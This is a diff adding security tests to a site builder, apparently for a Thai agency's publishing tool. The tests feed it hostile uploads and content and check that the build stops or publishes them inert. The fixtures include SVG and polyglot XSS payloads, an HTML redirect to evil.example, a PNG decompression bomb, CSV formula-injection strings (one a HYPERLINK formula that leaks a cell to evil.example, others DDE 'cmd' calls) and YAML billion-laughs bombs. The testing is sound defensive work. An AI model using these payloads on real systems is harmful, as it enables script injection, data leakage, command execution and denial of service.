@@ -409,3 +409,118 @@ def test_whole_corpus_in_every_field_of_the_demo(built, tmp_path):
     problems += [f"invalid HTML caused by content:\n{report}" for report in new_html_errors(clean / "site", [project / "site"])]
     if problems:
         pytest.fail("hostile content is not inert:\n  " + "\n  ".join(problems), pytrace=False)
+
+
+# ---------------------------------------------------------------- uploads, spreadsheets, aliases
+# Files and cells reach readers by other ways than the pages: an uploaded file is served under
+# the agency's domain, a CSV opens in the reader's spreadsheet. A hostile one must stop the
+# build with its YAML line, before site/ is touched, or be published inert.
+
+
+def _png_bomb() -> bytes:
+    import struct
+    import zlib
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(b"\0" * 100_000)) + chunk(b"IEND", b""))
+
+
+_SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>'
+# (file under content/files, bytes, the YAML that names it: file, old text, new text)
+UPLOADS = {
+    "svg evidence named .pdf": ("plans/annual-2567.pdf", _SVG, None),
+    "html evidence named .pdf": ("plans/annual-2567.pdf", b"<!doctype html><script>location='https://evil.example'</script>", None),
+    "empty pdf": ("plans/annual-2567.pdf", b"", None),
+    "svg evidence": ("plans/plan.svg", _SVG, ("content/plans.yml", "plans/annual-2567.pdf", "plans/plan.svg")),
+    "html evidence": ("plans/plan.html", b"<p>x</p>", ("content/plans.yml", "plans/annual-2567.pdf", "plans/plan.html")),
+    "svg logo": ("logo.svg", _SVG, ("content/agency.yml", "itas_code: TEST01", "itas_code: TEST01\nlogo: logo.svg")),
+    "gif+html polyglot photo": ("people/mayor.jpg", b"GIF89a/*\x01\x00\x01\x00*/=1;<script>alert(1)</script>", None),
+    "truncated photo": ("people/mayor.jpg", None, None),  # the real portrait cut in half
+    "decompression bomb photo": ("people/mayor.jpg", _png_bomb(), None),
+    "text as photo": ("people/deputy.jpg", b"not an image", None),
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("case", list(UPLOADS))
+def test_hostile_upload_stops_the_build_before_site_is_touched(mini, case):
+    name, data, reference = UPLOADS[case]
+    assert mini.build().returncode == 0
+    before = mini.site_digest()
+    target = mini.file(f"content/files/{name}")
+    if data is None:
+        data = target.read_bytes()[: target.stat().st_size // 2]
+    target.write_bytes(data)
+    if reference:
+        mini.edit(*reference)
+    result = mini.build()
+    out = result.stdout + result.stderr
+    assert result.returncode != 0 and "Traceback" not in out, out
+    assert re.search(r"content/\w+\.yml:\d+: \[[\w.\[\]]*(file|photo|logo)\]", out), out
+    assert mini.site_digest() == before
+
+
+def test_no_published_file_is_active_content(built):
+    """Whatever the demo publishes under files/, photos/ and brand/ is a document or an image."""
+    from site_builder.uploads import sniff
+
+    active = [p.relative_to(built.site).as_posix() for folder in ("files", "photos", "brand")
+              for p in (built.site / folder).rglob("*") if p.is_file() and sniff(p.read_bytes()[:2048]) == "active"]
+    assert not active
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"คลิก")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\n=2+2"]
+
+
+@pytest.mark.slow
+def test_published_csvs_carry_no_formula_from_hostile_cells(mini):
+    import csv
+    import io
+
+    header = ["งานที่ซื้อหรือจ้าง", "วงเงินที่จะซื้อหรือจ้าง", "วิธีซื้อหรือจ้าง", "ผู้ได้รับการคัดเลือก",
+              "ราคาที่ตกลงซื้อหรือจ้าง", "เหตุผลที่คัดเลือกโดยสรุป", "เลขที่สัญญา", "วันที่สัญญา", "หมายเหตุ"]
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(header)
+    for i, text in enumerate(FORMULAS + [c for c in CORPUS if len(c) < 500 and "\x00" not in c]):
+        writer.writerow([text, "1000", text, text, "900", text, f"{text}/{i}", "2567-01-15", text])
+    mini.write("content/procurement/2567.csv", out.getvalue())
+    result = mini.build(strict=False)
+    assert result.returncode == 0, result.stderr
+    published = sorted(mini.file("site").rglob("*.csv"))
+    assert len(published) >= 2
+    live = [(p.name, cell[:40]) for p in published
+            for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8-sig"))) for cell in row
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d[\d,]*(\.\d+)?", cell)]
+    assert not live
+
+
+ALIAS_BOMBS = {
+    "billion laughs in a text field": "duties:\n  - text: &a [ฮา, ฮา, ฮา, ฮา, ฮา, ฮา, ฮา, ฮา, ฮา]\n"
+    + "".join(f"  - text: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefghi", "bcdefghij")),
+    "billion laughs in an org chart": "political:\n  - &u0 {name: ก, head: ข}\n"
+    + "".join(f"  - &u{i} {{name: ก, head: ข, units: [{', '.join([f'*u{i - 1}'] * 9)}]}}\n" for i in range(1, 10)),
+    "long text repeated by aliases": "duties:\n  - text: &t " + "ก" * 100_000 + "\n"
+    + "".join("  - text: *t\n" for _ in range(300)),
+    "999 levels": "duties:\n  - text: " + "[" * 999 + "]" * 999 + "\n",
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("case", list(ALIAS_BOMBS))
+def test_yaml_that_explodes_stops_the_build_quickly_with_its_line(mini, case):
+    import time
+
+    assert mini.build().returncode == 0
+    before = mini.site_digest()
+    mini.write("content/structure.yml", ALIAS_BOMBS[case])
+    start = time.monotonic()
+    result = mini.build()
+    out = result.stdout + result.stderr
+    assert result.returncode != 0 and "Traceback" not in out, out
+    assert re.search(r"content/structure\.yml:\d+:", out) and len(out) < 5000, out[:2000]
+    assert time.monotonic() - start < 60
+    assert mini.site_digest() == before
